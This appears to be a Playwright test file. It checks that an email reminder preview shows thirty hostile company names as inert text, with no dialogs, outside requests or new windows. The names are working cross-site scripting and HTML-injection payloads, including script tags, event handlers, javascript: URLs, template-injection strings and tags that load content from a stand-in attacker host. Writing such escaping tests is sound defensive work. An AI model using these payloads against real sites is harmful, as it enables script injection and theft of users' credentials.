import type { Page } from '@playwright/test';
import { FRAME_RUNS_NOTHING } from '../fixtures/mail-frame';
import { addCompany } from '../fixtures/records';
import { expect, signIn, test } from '../fixtures/test';

// Short: a mail shows the first 120 characters of a name.
const ACT = 'parent.hit=top.hit=1;alert(1)';

/** Names of companies that are markup, script, addresses and templates to whoever takes them for that. */
const NAMES = [
  `<script>${ACT}</script>`,
  `</script><script>${ACT}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${ACT}">`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg onload="${ACT}">`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><animate onbegin="${ACT}" attributeName=x></svg>`,
  `"><svg/onload="${ACT}">`,
  `'><iframe srcdoc='<script>${ACT}</script>'>`,
  `<iframe src="javascript:${ACT}"></iframe>`,
  `<object data="https://evil.example/x"></object>`,
  `<embed src="https://evil.example/x">`,
  `</title></head><body onload="${ACT}">`,
  `</a><a href="https://evil.example" target="_top">Click</a>`,
  `<a href="javascript:${ACT}">Click</a>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import url(https://evil.example/x.css);*{display:none}</style>`,
  `<p style="background:url(https://evil.example/x.png)">`,
  `<form action="https://evil.example"><input name="password" autofocus onfocus="${ACT}"></form>`,
  `<details open ontoggle="${ACT}">`,
  `<video><source onerror="${ACT}"></video>`,
  `<math><mtext></table><img src=x onerror="${ACT}">`,
  `<!--><script>${ACT}</script>-->`,
  `&lt;script&gt;${ACT}&lt;/script&gt;`,
  `\${alert(1)} {{constructor.constructor("alert(1)")()}} <%= 7*7 %>`,
  `javascript:alert(1)//" onmouseover="${ACT}`,
  `<template shadowrootmode="open"><script>${ACT}</script></template>`,
];

/** As many as a reminder has (spec section 9). */
const IN_A_REMINDER = 5;

/** What the page does that it should not. */
function watch(page: Page) {
  const deeds: string[] = [];
  page.on('dialog', (dialog) => {
    deeds.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const { protocol, hostname } = new URL(request.url());
    if (protocol.startsWith('http') && !['localhost', '127.0.0.1'].includes(hostname))
      deeds.push(request.url());
  });
  page.context().on('page', (opened) => deeds.push(`window ${opened.url()}`));
  return deeds;
}

test('I7: 30 hostile names of companies in the preview are read, and do nothing', async ({
  page,
  desk,
  account,
  allowConsole,
}) => {
  allowConsole(FRAME_RUNS_NOTHING);
  expect(NAMES).toHaveLength(30);
  const deeds = watch(page);
  await signIn(page, desk, account);
  await page.getByRole('button', { name: account.full_name }).click();
  await page.getByRole('menuitem', { name: 'Settings' }).click();
  const preview = page.getByRole('dialog', { name: 'Reminder Preview' });
  const frame = preview.frameLocator('iframe[title="Reminder email"]');

  for (let first = 0; first < NAMES.length; first += IN_A_REMINDER) {
    const names = NAMES.slice(first, first + IN_A_REMINDER);
    for (const company_name of names) await addCompany(desk, account, { company_name });
    await page.getByRole('button', { name: 'Preview', exact: true }).click();
    for (const name of names) await expect(frame.getByText(name, { exact: true })).toBeVisible();
    await preview.getByRole('button', { name: 'Close' }).click();
    await expect(preview).toBeHidden();
  }
  expect(await page.evaluate(() => 'hit' in window)).toBe(false);
  expect(deeds).toEqual([]);
});
